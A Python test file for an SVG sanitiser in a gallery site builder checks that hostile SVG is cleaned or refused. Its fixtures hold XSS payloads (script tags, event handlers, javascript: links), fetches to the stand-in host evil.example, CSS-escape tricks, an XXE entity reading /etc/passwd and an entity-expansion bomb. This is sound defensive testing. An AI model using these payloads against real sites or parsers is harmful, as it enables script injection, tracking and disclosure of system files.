"""Crowd SVG is hostile: what can run or fetch is removed; what cannot be parsed safely is refused."""
from __future__ import annotations

from xml.etree import ElementTree

import pytest
from conftest import assert_no_traceback, cli, write_files

from crowdgallery.write.svgclean import SvgError, clean_svg

SVG = "http://www.w3.org/2000/svg"

HOSTILE = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50"
     onload="document.title='pwned'">
  <script>document.title = 'pwned'</script>
  <script xlink:href="https://evil.example/x.js"/>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#f00"/></linearGradient></defs>
  <rect width="100" height="50" fill="url(#g)" onclick="alert(1)"/>
  <circle r="5" style="fill: url(https://evil.example/track.png)"/>
  <style>@import url(https://evil.example/x.css); rect { fill: red }</style>
  <style>.ok { fill: url(#g) }</style>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>
  <a href="javascript:alert(1)"><text x="1" y="20">label</text></a>
  <use href="https://evil.example/sprite.svg#icon"/>
  <use xlink:href="#g"/>
  <image href="https://evil.example/pixel.png" width="1" height="1"/>
  <animate attributeName="href" to="javascript:alert(1)"/>
  <set attributeName="onclick" to="alert(1)"/>
  <animateTransform attributeName="transform" type="rotate" from="0" to="90" dur="1s"/>
  <iframe src="https://evil.example/"/>
</svg>
"""


def tree(data: bytes) -> ElementTree.Element:
    return ElementTree.fromstring(data)


def test_everything_that_can_run_or_fetch_is_removed():
    result = clean_svg(HOSTILE)
    root = tree(result.data)
    tags = [el.tag.split("}")[1] for el in root.iter()]
    for gone in ("script", "foreignObject", "a", "image", "iframe", "div", "set"):
        assert gone not in tags
    assert tags.count("animate") == 0 and "animateTransform" in tags  # animations of href go, others stay
    for el in root.iter():
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (el.tag, name)
            assert "evil.example" not in value and "javascript" not in value.lower(), (el.tag, name, value)
    text = result.data.decode()
    assert "@import" not in text and "pwned" not in text and "alert" not in text
    # the drawing itself survives: shapes, the gradient, the fragment reference, the link's text
    assert "rect" in tags and "linearGradient" in tags and "text" in tags
    assert [use.get("href") for use in root.iter(f"{{{SVG}}}use")] == [None, "#g"]  # the external one lost it
    assert ".ok { fill: url(#g) }" in text
    assert (result.width, result.height) == (100, 50)
    assert result.removed  # what went is listed for the organiser


@pytest.mark.parametrize("data, line, words", [
    (b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
     2, "DOCTYPE"),
    (b'<svg xmlns="http://www.w3.org/2000/svg">\n<rect>\n</svg>', 3, "not well-formed"),
    (b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>', 1, "root element"),
    (b'\n\n<svg xmlns="http://www.w3.org/2000/svg" a="1" a="2"/>', 3, "not well-formed"),
])
def test_what_cannot_be_parsed_safely_is_refused_with_its_line(data, line, words):
    with pytest.raises(SvgError) as caught:
        clean_svg(data)
    assert caught.value.line == line and words in str(caught.value)


def test_no_entity_expansion_bomb():
    bomb = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>' \
           b'<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>'
    with pytest.raises(SvgError, match="DOCTYPE"):
        clean_svg(bomb)


def test_a_clean_drawing_keeps_its_shapes_and_is_stable():
    plain = (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 32" role="img" aria-label="A &amp; B">'
             b'<title>A &lt;b&gt;</title><circle cx="16" cy="16" r="8" fill="#123"/></svg>')
    result = clean_svg(plain)
    assert result.removed == () and (result.width, result.height) == (64, 32)
    root = tree(result.data)
    assert root.get("aria-label") == "A & B" and root.find(f"{{{SVG}}}title").text == "A <b>"
    assert clean_svg(result.data).data == result.data


SITE = {
    "site.yaml": "title: Svg\n",
    "campaigns.yaml": "- {id: c, title: C}\n",
    "designers.yaml": "- id: ada\n  avatar: images/ada.svg\n- id: ben\n  avatar: images/ben.svg\n",
    "submissions.yaml": "- {id: s, title: S, designer: ada, image: images/ada.svg}\n",
}


def test_the_build_publishes_the_cleaned_svg(tmp_path):
    site = write_files(tmp_path / "site", {**SITE, "images/ada.svg": HOSTILE, "images/ben.svg": HOSTILE})
    result = cli("build", site, "-o", tmp_path / "out")
    assert result.exit_code == 0, result.output
    published = (tmp_path / "out/media/images/ada.svg").read_bytes()
    assert published == clean_svg(HOSTILE).data
    assert b"script" not in published and b"onload" not in published


def test_an_svg_that_cannot_be_cleaned_is_an_error_at_the_line_that_names_it(tmp_path):
    doctype = b'<?xml version="1.0"?>\n<!DOCTYPE svg>\n<svg xmlns="http://www.w3.org/2000/svg"/>'
    site = write_files(tmp_path / "site", {**SITE, "images/ada.svg": HOSTILE, "images/ben.svg": doctype})
    result = cli("check", site)
    assert_no_traceback(result)
    assert result.exit_code == 1
    assert ("designers.yaml:4: error: the SVG 'images/ben.svg' cannot be published safely: the file has a "
            "DOCTYPE, which is not allowed (it can define entities); remove it (line 2 of the SVG)") in result.stderr


@pytest.mark.parametrize("css", [
    '@\\69mport "http://evil.example/a.css";',  # a CSS escape spelling @import
    ".x { fill: u\\72l(http://evil.example/t) }",  # … and url(
    ":root { background-image: image-set('http://evil.example/t' 1x) }",
])
def test_styles_that_could_fetch_by_other_spellings_are_removed(css):
    data = f'<svg xmlns="http://www.w3.org/2000/svg"><style>{css}</style><rect width="1" height="1"/></svg>'
    text = clean_svg(data.encode()).data.decode()
    assert "evil.example" not in text and "rect" in text


def test_nesting_too_deep_to_clean_is_refused_not_a_crash(tmp_path):
    deep = b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * 3000 + b"</g>" * 3000 + b"</svg>"
    with pytest.raises(SvgError, match="nested more than"):
        clean_svg(deep)


def test_an_svg_with_one_known_side_gets_no_size_rather_than_a_zero_one():
    data = b'<svg xmlns="http://www.w3.org/2000/svg" width="300" height="50%"><rect width="1" height="1"/></svg>'
    result = clean_svg(data)
    assert (result.width, result.height) == (0, 0)
